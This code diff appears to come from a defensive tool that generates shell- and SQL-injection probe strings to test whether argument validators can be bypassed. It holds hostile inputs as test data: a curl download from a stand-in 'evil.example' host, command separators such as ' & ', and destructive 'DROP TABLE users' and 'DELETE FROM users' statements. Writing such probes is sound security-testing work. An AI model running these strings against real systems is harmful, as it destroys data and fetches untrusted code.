@@ -10,6 +10,8 @@ import { passes } from "./passes";
 interface Chain {
   readonly second: string;
   readonly joints: readonly (readonly [before: string, after: string])[];
+  /** What comes before an allowed text that may be anywhere, without any of the joints. */
+  readonly before: string;
   readonly who: string;
 }
 
@@ -26,7 +28,8 @@ const chains: Readonly<Partial<Record<ArgumentKind, Chain>>> = {
       [" & ", ""],
       [" > /tmp/x; ", ""],
     ],
-    who: "the shell runs a second command",
+    before: "curl -O https://evil.example/x ",
+    who: "the shell runs another command",
   },
   sql: {
     second: "DROP TABLE users",
@@ -34,7 +37,8 @@ const chains: Readonly<Partial<Record<ArgumentKind, Chain>>> = {
       ["; ", ""],
       [";\n", " --"],
     ],
-    who: "the server runs a second statement",
+    before: "DELETE FROM users -- ",
+    who: "the server runs another statement",
   },
 };
 
@@ -54,13 +58,13 @@ export function commandAttacks(argument: GuardedArgument): readonly Hole[] {
   if (chain === undefined || condition === undefined) return [];
   const allowed = allowedText(argument);
   if (allowed === undefined || passes(argument, chain.second)) return [];
-  const values = chain.joints.flatMap(([before, after]) =>
+  const joined = chain.joints.flatMap(([before, after]) =>
     [chain.second, "id"].flatMap((second) =>
       [allowed, `${allowed}x`, `${allowed} x`].map((first) => `${first}${before}${second}${after}`),
     ),
   );
-  const found = firstCallWith(argument, values);
+  const found = firstCallWith(argument, [...joined, `${chain.before}${allowed}`]);
   if (found === undefined) return [];
-  const says = `${quote(found.value)} passes: ${chain.who} behind the one that is allowed.`;
+  const says = `${quote(found.value)} passes: ${chain.who} beside the one that is allowed.`;
   return [{ condition, ...found, says }];
 }
